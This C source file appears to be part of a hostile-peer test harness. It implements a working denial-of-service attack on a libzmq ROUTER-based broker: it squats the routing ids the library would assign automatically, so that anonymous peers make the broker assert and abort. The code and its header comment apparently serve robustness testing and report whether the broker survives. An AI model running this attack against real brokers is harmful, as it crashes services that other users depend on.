/*  hostile_routing - the routing id clash. libzmq's ROUTER names a peer
    that sets no routing id 0x00 + a 4-byte counter, and does not check the
    ids peers choose against that range: a peer that takes the next
    automatic id before an anonymous peer arrives makes add_out_pipe()
    assert, and the broker aborts.

    The attack: connect anonymously and read our own id from WELCOME (the
    broker used to show routing ids); squat the next `count` automatic ids
    with chosen ids; connect `count` anonymous peers; then ask the broker's
    client endpoint `frontend` for a ping. If no id can be
    learned, squat random ids of the reserved range instead (a blind guess).
    Prints "learned=yes|no alive=yes|no".  */
#include "hostile.h"
#include "vc_check.h"

//  The counter behind "00xxxxxxxx", or -1 if the id is not of that form.
static int64_t
s_counter (const char *id)
{
    if (strlen (id) != 10 || strncmp (id, "00", 2))
        return -1;
    char *end = NULL;
    unsigned long value = strtoul (id + 2, &end, 16);
    return end && *end == 0 ? (int64_t) value : -1;
}

//  An anonymous peer that says HELLO; its WELCOME id, if any, in client.
static zsock_t *
s_anonymous (const char *endpoint, char *client, size_t size)
{
    zsock_t *dealer = hostile_dealer (endpoint, false);
    if (dealer && hostile_hello (dealer) == 0)
        hostile_next (dealer, client ? 500 : 50, client, size);
    return dealer;
}

int
hostile_routeclash (const char *endpoint, int count, const char *frontend)
{
    char client [80] = "";
    zsock_t *probe = s_anonymous (endpoint, client, sizeof client);
    if (!probe)
        return 1;
    int64_t counter = s_counter (client);
    zlist_t *peers = VC_NEED (zlist_new ());
    zlist_append (peers, probe);
    for (int i = 1; i <= count; i++) {
        byte id [5] = { 0 };
        if (counter >= 0) {
            uint32_t next = (uint32_t) counter + (uint32_t) i;
            id [1] = (byte) (next >> 24);
            id [2] = (byte) (next >> 16);
            id [3] = (byte) (next >> 8);
            id [4] = (byte) next;
        }
        else
            for (int b = 1; b < 5; b++)
                id [b] = (byte) randof (256);
        zsock_t *squatter = hostile_dealer_with (endpoint, id, sizeof id);
        if (squatter) {
            hostile_hello (squatter);
            zlist_append (peers, squatter);
        }
    }
    zclock_sleep (300);
    for (int i = 0; i < count; i++) {
        zsock_t *anonymous = s_anonymous (endpoint, NULL, 0);
        if (anonymous)
            zlist_append (peers, anonymous);
    }
    zclock_sleep (500);
    bool alive = hostile_broker_alive (frontend);
    printf ("learned=%s alive=%s\n", counter >= 0 ? "yes" : "no", alive ? "yes" : "no");
    zsock_t *peer;
    while ((peer = (zsock_t *) zlist_pop (peers)))
        zsock_destroy (&peer);
    zlist_destroy (&peers);
    return 0;
}
